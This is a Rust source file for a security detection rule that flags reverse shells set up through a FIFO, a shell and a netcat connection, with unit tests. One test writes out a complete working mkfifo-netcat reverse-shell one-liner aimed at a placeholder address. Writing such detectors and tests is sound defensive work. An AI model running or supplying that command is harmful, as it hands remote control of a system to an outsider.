//! # IPC-UX-012: Reverse shell over a FIFO
//!
//! ## What it detects
//! A FIFO, a shell and a connection to another machine in related processes (parents, children, siblings) within one
//! minute: the FIFO feeds network input back to the shell. Also the single command line that sets this up.
//!
//! ## Why it matters
//! A netcat without an option to run a program needs a FIFO to connect both directions of a remote shell.
//!
//! ## Telemetry
//! auditd execve, mknod/mknodat, connect.
//!
//! ## False positives
//! Training labs. Backup jobs use FIFOs too, but run no shell over a connection.
//!
//! ## References
//! ATT&CK T1559, T1059.004; DET0493 (AN1358).

use std::time::Duration;

use backchannel_events::{
    Activity, ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source,
};

use crate::memory::recent::Noted;
use crate::memory::{KnownProcess, ProcessId};
use crate::text::{base_name, contains};
use crate::vocabulary::{programs, sockets};
use crate::{Actor, Analytic, Context, Evidence, Family};

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-UX-012",
    title: "Reverse shell over a FIFO",
    family: Family::UnixIpc,
    techniques: &["T1559", "T1059.004"],
    attack_analytics: &["AN1358"],
    severity: Severity::Critical,
    on: &[ActivityKind::ProcessStart, ActivityKind::NetworkFlow, ActivityKind::ChannelCreate],
    telemetry: &[Source::Auditd],
    // FIFO, shell and connection belong together within this time.
    window: Some(Duration::from_secs(60)),
    evaluate,
    ..Analytic::DEFAULTS
};

fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    match &event.activity {
        Activity::ProcessStart => {
            let started = context.subject();
            if sets_up(started.command_line) {
                let text = format!(
                    "One command makes a FIFO, a shell and a network connection feed each other, run by {}: {}",
                    started.account(),
                    crate::text::clip(started.command_line, 200),
                );
                return Some(conclude(Evidence::new(Severity::Critical, Confidence::High, text)).client(started));
            }
            if sockets::is_shell(started.name()) || sockets::is_network_tool(started.name()) {
                return family(context, event);
            }
            None
        }
        Activity::NetworkFlow(flow) if flow.outbound => family(context, event),
        Activity::ChannelCreate(channel) if channel.mechanism == Mechanism::Fifo => family(context, event),
        _ => None,
    }
}

fn conclude(evidence: Evidence) -> Evidence {
    evidence.reasons(Reasons::UNKNOWN_BINARY).indicators(Indicators::UNEXPECTED_USE).channel(Mechanism::Fifo, "")
}

/// Whether a command line alone sets up the reverse shell.
fn sets_up(command: &str) -> bool {
    let makes_fifo = contains(command, "mkfifo") || (contains(command, "mknod ") && contains(command, " p"));
    makes_fifo && connects(command) && (sockets::names_shell(command) || contains(command, "pty.spawn"))
}

/// Whether a command line connects, or waits for a connection: a socket with a path is none.
fn connects(command: &str) -> bool {
    sockets::reaches_network(command) && sockets::names_network_end(command)
}

/// Whether a connection may carry the shell: one to another machine; on this machine, where a tunnel may begin, only
/// that of a network tool or an interpreter.
fn carries(context: &Context<'_>, image: &str, remote: &str) -> bool {
    let name = base_name(image);
    !context.host.addresses.is_own(remote) || sockets::is_network_tool(name) || programs::is_script_host(name)
}

/// Looks for FIFO, shell and connection among the event's process, its parents, and their children.
fn family(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    let host = context.host;
    let subject = context.subject();
    let parent = subject.known.and_then(|known| known.parent).or(context.parent().known.map(|known| known.id))?;
    if crate::vocabulary::hubs::is_hub(host.processes.get(parent)?.name(), "") {
        return None;
    }
    let grandparent = host.processes.get(parent)?.parent;
    let near = |known: &&KnownProcess| known.note.time.within(context.window(), event.time);
    let mut kin: Vec<&KnownProcess> = host.processes.get(parent).into_iter().collect();
    kin.extend(host.processes.children(parent).filter(near));
    // A program that starts `sh -c`, which starts the shell: one more generation, unless it is a long-running daemon.
    kin.extend(grandparent.and_then(|id| host.processes.get(id)).filter(near));
    if kin.len() > 64 {
        return None;
    }
    let is_kin = |id: Option<ProcessId>| id.is_some_and(|id| kin.iter().any(|known| known.id == id));
    let by_subject = |name: fn(&str) -> bool| matches!(event.activity, Activity::ProcessStart) && name(subject.name());

    let (fifo, made) = match &event.activity {
        Activity::ChannelCreate(channel) => (channel.name, None),
        _ => host
            .channels
            .iter()
            .filter(|(_, known)| known.mechanism == Mechanism::Fifo)
            .filter_map(|(name, known)| Some((name, known.created.as_ref()?)))
            .find(|(_, made)| made.note.time.within(context.window(), event.time) && is_kin(made.process))
            .map(|(name, made)| (name, Some(made)))?,
    };
    let shell = kin.iter().find(|known| sockets::is_shell(known.name()) && is_bare(&known.command_line));
    let shell_now = by_subject(sockets::is_shell) && is_bare(subject.command_line);
    let flow = host.flows.near(event.time, context.window()).find(|flow| {
        flow.outbound
            && carries(context, &flow.who.image, &flow.remote)
            && (is_kin(flow.who.process) || flow.who.process == subject.known.map(|known| known.id))
    });
    let tool = kin.iter().find(|known| sockets::is_network_tool(known.name()) && connects(&known.command_line));
    let connecting = match &event.activity {
        Activity::NetworkFlow(flow) => carries(context, subject.image, flow.remote.address),
        _ => by_subject(sockets::is_network_tool) && connects(subject.command_line),
    };
    let connected = flow.is_some() || tool.is_some() || connecting;
    if !(shell_now || shell.is_some()) || !connected {
        return None;
    }
    let server = if shell_now { subject } else { shell.map(|known| Actor::remembered(known)).unwrap_or_default() };
    let client = tool.map(|known| Actor::remembered(known)).unwrap_or(subject);
    let text = format!(
        "A shell of {} talks to the network through the FIFO {fifo}: FIFO, shell and connection belong to one family \
         of processes.",
        server.account(),
    );
    let mut evidence = conclude(Evidence::new(Severity::Critical, Confidence::High, text))
        .client(client)
        .server(server)
        .channel(Mechanism::Fifo, fifo);
    if let Some(made) = made {
        evidence = evidence.because(&made.note, format!("the FIFO {fifo} was made"));
    }
    if let Some(flow) = flow {
        evidence = evidence.because(flow.note(), format!("connection to {}:{}", flow.remote, flow.remote_port));
    }
    for known in shell.into_iter().chain(tool) {
        evidence = evidence.because(&known.note, format!("{} was started: {}", known.name(), known.command_line));
    }
    Some(evidence)
}

/// Whether a shell was started interactively: no script, no command of its own.
fn is_bare(command_line: &str) -> bool {
    let mut words = command_line.split_whitespace().skip(1);
    words.all(|word| matches!(word, "-i" | "-l" | "-li" | "-il" | "--login" | "--noprofile" | "--norc" | "-p"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    fn fifo(seconds: f64, name: &'static str) -> Event {
        let channel = backchannel_events::Channel { mechanism: Mechanism::Fifo, name, ..Default::default() };
        event(seconds, Activity::ChannelCreate(channel)).uids("990", "990", "")
    }

    fn shell_start(seconds: f64, pid: u32, parent: u32, image: &'static str, command: &'static str) -> Event {
        start(seconds, image, command).pid(pid).parent_pid(parent).uids("990", "990", "")
    }

    #[test]
    fn the_command_line_alone_fires() {
        let command = "/bin/sh -c rm -f /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc 192.0.2.7 9001 >/tmp/q";
        let events = [shell_start(0.0, 10, 9, "/usr/bin/dash", command)];
        check(&ANALYTIC, &events, Some((Severity::Critical, Confidence::High)));
    }

    #[test]
    fn related_processes_fire_whatever_their_names() {
        let mut flow = flow_in(3.0, 40_000, "192.0.2.7", 9001);
        if let Activity::NetworkFlow(flow) = &mut flow.0.activity {
            flow.outbound = true;
        }
        let events = [
            shell_start(0.0, 10, 9, "/opt/app/run", "/opt/app/run"),
            fifo(1.0, "/tmp/.q").of("/opt/app/run", 10),
            shell_start(2.0, 11, 10, "/usr/bin/bash", "/bin/bash -i"),
            flow.of("/opt/app/relay", 12).parent_pid(10).uids("990", "990", ""),
        ];
        check(&ANALYTIC, &events, Some((Severity::Critical, Confidence::High)));
    }

    #[test]
    fn a_backup_through_a_fifo_is_quiet() {
        let events = [
            shell_start(0.0, 10, 9, "/usr/bin/bash", "bash /usr/local/bin/backup.sh"),
            fifo(1.0, "/var/backups/.dump.pipe").of("/usr/bin/mkfifo", 11).parent_pid(10),
            shell_start(2.0, 12, 10, "/usr/bin/gzip", "gzip -c"),
            shell_start(3.0, 13, 10, "/usr/bin/pg_dump", "pg_dump shop"),
        ];
        check(&ANALYTIC, &events, None);
    }

    #[test]
    fn a_network_tool_on_a_path_is_no_connection() {
        for (image, line) in [
            ("/usr/bin/nc.openbsd", "nc -lU /home/u/s.sock"),
            ("/usr/bin/busybox", "busybox mkfifo /home/u/b.pipe"),
            ("/usr/bin/socat", "socat UNIX-LISTEN:/home/u/s -"),
        ] {
            let events = |line| {
                [
                    shell_start(0.0, 10, 9, "/usr/bin/bash", "bash"),
                    fifo(1.0, "/home/u/colour.pipe").of("/usr/bin/mkfifo", 11).parent_pid(10),
                    shell_start(2.0, 12, 10, "/usr/bin/dash", "sh -i"),
                    shell_start(3.0, 13, 10, image, line),
                ]
            };
            check(&ANALYTIC, &events(line), None);
        }
        let line = "mkfifo /tmp/q;cat /tmp/q|sh -i|nc -lU /tmp/s >/tmp/q";
        check(&ANALYTIC, &[shell_start(0.0, 10, 9, "/usr/bin/dash", line)], None);
    }

    #[test]
    fn a_fifo_and_a_shell_without_a_connection_are_quiet() {
        let events = [
            shell_start(0.0, 10, 9, "/usr/bin/bash", "bash /home/u/colours.sh"),
            fifo(1.0, "/home/u/colour.pipe").of("/usr/bin/mkfifo", 11).parent_pid(10),
            shell_start(2.0, 12, 10, "/usr/bin/dash", "sh -i"),
        ];
        check(&ANALYTIC, &events, None);
    }
}
